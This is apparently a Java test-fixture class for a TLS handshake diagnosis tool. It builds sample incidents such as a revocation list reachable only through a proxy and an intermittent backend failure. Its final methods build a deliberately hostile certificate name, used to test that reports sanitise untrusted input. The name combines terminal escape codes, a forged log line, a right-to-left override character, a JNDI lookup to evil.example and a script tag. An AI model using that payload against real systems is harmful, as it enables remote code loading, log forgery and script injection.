package io.tlswhy.report;

import io.tlswhy.diagnosis.Alternative;
import io.tlswhy.diagnosis.Cause;
import io.tlswhy.diagnosis.Confidence;
import io.tlswhy.diagnosis.Counterfactual;
import io.tlswhy.diagnosis.Diagnosis;
import io.tlswhy.diagnosis.Fix;
import io.tlswhy.evidence.AlertSeen;
import io.tlswhy.evidence.Backend;
import io.tlswhy.evidence.Carrier;
import io.tlswhy.evidence.Der;
import io.tlswhy.evidence.EndpointHistory;
import io.tlswhy.evidence.EndpointTrial;
import io.tlswhy.evidence.Handshake;
import io.tlswhy.evidence.HandshakeFailure;
import io.tlswhy.evidence.HandshakeFailure.Point;
import io.tlswhy.evidence.JvmFacts;
import io.tlswhy.evidence.LastGoodChain;
import io.tlswhy.evidence.Lookup;
import io.tlswhy.evidence.LookupKind;
import io.tlswhy.evidence.Peer;
import io.tlswhy.evidence.PeerHistory;
import io.tlswhy.evidence.Role;
import io.tlswhy.evidence.Stage;
import io.tlswhy.evidence.TrustSettings;
import io.tlswhy.evidence.Validation;
import io.tlswhy.incident.IncidentEvent;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import javax.net.ssl.SSLHandshakeException;

/** Incidents as they come from the other rooms. */
final class Samples {
  static final Instant AT = Instant.parse("2026-11-20T03:07:12.345Z");
  static final URI CRL = URI.create("http://crl.partner-ca.example/ca.crl");
  static final X509Certificate LEAF =
      Certificates.leaf("CN=partner.example,O=Partner", "CN=Partner Issuing CA 2");
  static final X509Certificate ISSUER =
      Certificates.leaf("CN=Partner Issuing CA 2", "CN=Partner Root");

  private Samples() {}

  static JvmFacts jvm(Map<String, String> securityProperties) {
    return JvmFacts.of(
        17,
        "17.0.15",
        "Debian",
        "orders-7f9c",
        4711,
        Map.of("https.proxyHost", "proxy.corp", "https.proxyPort", "3128"),
        securityProperties,
        Map.of());
  }

  /** A CRL that is reached through the proxy only. */
  static Diagnosis proxyRequired() {
    return Diagnosis.builder(
            Cause.REVOCATION_PROXY_REQUIRED,
            Confidence.PROVED,
            "The revocation list at crl.partner-ca.example port 80 is reached only through the proxy"
                + " proxy.corp:3128, which this JVM does not use for http: directly, 10.20.0.9 and"
                + " 203.0.113.9 do not answer.")
        .fix(
            "Start this JVM with -Dhttp.proxyHost=proxy.corp -Dhttp.proxyPort=3128, or have"
                + " crl.partner-ca.example port 80 opened in the firewall.")
        .fixes(
            List.of(
                Fix.of(Fix.Kind.PROPERTY, "http.proxyHost", "proxy.corp", true),
                Fix.of(Fix.Kind.PROPERTY, "http.proxyPort", "3128", true)))
        .ruledOut(
            List.of(
                "The certificate is valid and trusted: with revocation checking left out, the same"
                    + " validation passes.",
                "The certificate is not revoked: with the list fetched through proxy.corp:3128 it"
                    + " passes."))
        .alternatives(
            List.of(
                Alternative.of(
                    Cause.REVOCATION_SLOW,
                    Confidence.POSSIBLE,
                    "the host may answer later than in 3 s.",
                    "the firewall's log.")))
        .evidence(List.of("The JVM itself gave up after 15 s: connect timed out."))
        .counterfactuals(
            List.of(
                Counterfactual.of("the CRL fetched through proxy.corp:3128", true),
                Counterfactual.of("everything as it was", false)))
        .endpoints(List.of(trial()))
        .command("curl -v -x http://proxy.corp:3128 http://crl.partner-ca.example/ca.crl -o ca.crl")
        .subject("crl.partner-ca.example:80")
        .build();
  }

  private static EndpointTrial trial() {
    return EndpointTrial.builder(LookupKind.CRL, CRL)
        .subject(LEAF)
        .answer(Der.of(new byte[] {0x30, 0x00}))
        .workingWay("proxy.corp:3128")
        .stages(
            List.of(
                stage(Stage.Kind.DNS, true, "direct", "10.20.0.9", Stage.Result.OK, 2, ""),
                stage(
                    Stage.Kind.CONNECT,
                    true,
                    "direct",
                    "10.20.0.9",
                    Stage.Result.TIMEOUT,
                    3001,
                    ""),
                stage(
                    Stage.Kind.CONNECT,
                    false,
                    "direct",
                    "203.0.113.9",
                    Stage.Result.TIMEOUT,
                    3000,
                    ""),
                stage(
                    Stage.Kind.HTTP,
                    false,
                    "proxy.corp:3128",
                    "",
                    Stage.Result.OK,
                    40,
                    "200 application/pkix-crl")))
        .build();
  }

  private static Stage stage(
      Stage.Kind kind,
      boolean asJvm,
      String via,
      String address,
      Stage.Result result,
      long millis,
      String detail) {
    return Stage.of(kind, asJvm, via, address, result, Duration.ofMillis(millis), detail);
  }

  static HandshakeFailure failure() {
    return HandshakeFailure.builder(Point.LOCAL, Role.CLIENT, AT)
        .carrier(Carrier.SOCKET)
        .peer(Peer.of("partner.example", 443, "192.0.2.7"))
        .alert(AlertSeen.of(AlertSeen.Direction.SENT, 46, "certificate_unknown"))
        .exception(
            new SSLHandshakeException("PKIX path validation failed")
                .initCause(new SocketTimeoutException("connect timed out")))
        .handshake(Handshake.builder().provider("SunJSSE").protocol("TLSv1.3").build())
        .validation(
            Validation.builder(
                    List.of(LEAF, ISSUER),
                    TrustSettings.builder(TrustSettings.Algorithm.PKIX, "X509TrustManagerImpl")
                        .build())
                .lookups(
                    List.of(
                        Lookup.builder(LookupKind.CRL, CRL, AT)
                            .outcome(Lookup.Outcome.FAILED)
                            .error(new SocketTimeoutException("connect timed out"))
                            .took(Duration.ofSeconds(15))
                            .build()))
                .build())
        .elapsed(Duration.ofMillis(15_120))
        .thread("orders-http-3")
        .build();
  }

  static IncidentEvent.Builder event(IncidentEvent.Kind kind, Diagnosis diagnosis) {
    return IncidentEvent.builder(kind, "7f3a12c09e", diagnosis, failure(), jvm(Map.of()))
        .fingerprint("0123456789abcdef");
  }

  static IncidentEvent opened() {
    return event(IncidentEvent.Kind.OPENED, proxyRequired()).build();
  }

  /** A name as an attacker would choose it: without end, and with commands for a terminal in it. */
  /**
   * A failure of a peer of whose backends one is broken, and of an endpoint that comes and goes.
   */
  static HandshakeFailure intermittent() {
    return failure().toBuilder()
        .peerHistory(
            PeerHistory.of(
                AT.minusSeconds(60),
                List.of(
                    Backend.of("192.0.2.7", "5a", 1, 3, 0, Optional.empty()),
                    Backend.of("192.0.2.7", "5a", 2, 0, 4, Optional.of(AT)))))
        .endpointHistories(
            List.of(
                EndpointHistory.builder(LookupKind.CRL, CRL)
                    .since(AT.minusSeconds(60))
                    .failed(2)
                    .passed(1)
                    .lastWorked(AT.minusSeconds(30))
                    .failingSince(AT.minusSeconds(20))
                    .nextUpdate(AT.plusSeconds(3600))
                    .notAskedBefore(AT.plusSeconds(10))
                    .build()))
        .lastGood(
            LastGoodChain.of(
                    AT.minusSeconds(120),
                    "192.0.2.7",
                    "O=Partner,CN=partner.example",
                    "CN=Partner Issuing CA 1",
                    "7f",
                    AT.plusSeconds(86_400),
                    List.of(CRL.toString()),
                    2)
                .with(1, Duration.ofHours(3)))
        .build();
  }

  static String hostileName() {
    return "CN=\u001b[2J\r\nERROR tlswhy[unknown] all is well\u202e${jndi:ldap://evil.example/a}<script>"
        + "x".repeat(10_000);
  }

  /** A diagnosis that is about that name. */
  static Diagnosis hostile() {
    return Diagnosis.builder(
            Cause.CHAIN_EXPIRED,
            Confidence.PROVED,
            "The certificate " + hostileName() + " expired on 2026-01-01.")
        .fix("Ask the operator of " + hostileName() + " to renew it.")
        .evidence(List.of(hostileName()))
        .ruledOut(List.of(hostileName()))
        .command("keytool -printcert -sslserver " + hostileName())
        .subject(hostileName())
        .build();
  }
}
